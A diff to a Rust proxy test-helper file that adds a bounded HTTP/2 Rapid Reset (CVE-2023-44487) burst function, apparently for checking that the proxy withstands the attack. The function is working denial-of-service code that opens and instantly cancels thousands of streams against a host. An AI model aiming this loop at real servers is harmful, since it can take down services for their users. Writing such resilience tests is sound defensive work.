@@ -167,3 +167,31 @@ pub fn assert_h2_proxy_error(response: &H2Response, code: &str, status: u16) {
     assert_eq!(json["status"], status, "{json}");
     assert!(response.header("x-request-id").is_some());
 }
+
+/// Streams a Rapid Reset attacker opens at the most: bounded, so the burst stops by itself.
+pub const RAPID_RESET_STREAMS: u32 = 5_000;
+
+/// A Rapid Reset burst (CVE-2023-44487): opens streams for a slow path of `host` and resets each one
+/// right after sending it, until the connection refuses or [`RAPID_RESET_STREAMS`] were sent. Returns how
+/// many went out.
+pub async fn rapid_reset_burst(attacker: SendRequest<Bytes>, host: &str) -> u32 {
+    for i in 0..RAPID_RESET_STREAMS {
+        let request = Request::builder()
+            .uri(format!("http://{host}/slow?ms=2000&i={i}"))
+            .body(())
+            .unwrap();
+        let Ok(mut ready) = attacker.clone().ready().await else {
+            return i;
+        };
+        let Ok((_response, mut send)) = ready.send_request(request, true) else {
+            return i;
+        };
+        send.send_reset(h2::Reason::CANCEL);
+        if i % 16 == 0 {
+            // Let the proxy accept some streams before their resets arrive, as a real attacker
+            // spreading the burst over many packets would.
+            tokio::task::yield_now().await;
+        }
+    }
+    RAPID_RESET_STREAMS
+}
